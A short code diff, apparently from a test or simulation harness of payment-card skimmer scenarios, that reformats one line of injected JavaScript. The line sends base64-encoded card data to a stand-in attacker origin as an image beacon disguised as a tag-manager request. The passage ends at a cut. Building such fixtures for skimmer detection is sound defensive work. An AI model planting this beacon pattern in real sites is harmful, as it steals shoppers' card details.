@@ -8,7 +8,9 @@ export default skimmer({
   covers: ['injection: tag manager', 'trigger: address', 'obfuscation: eval'],
   base: 'direct',
   install: (site) => {
-    const code = onPay(js`new Image().src = '${site.origins.evil}/gtm.gif?d=' + encodeURIComponent(btoa(card()));`);
+    const code = onPay(
+      js`new Image().src = '${site.origins.evil}/gtm.gif?d=' + encodeURIComponent(btoa(card()));`,
+    );
     site.external(
       'cdn/tm.js',
       js`(function (container) {
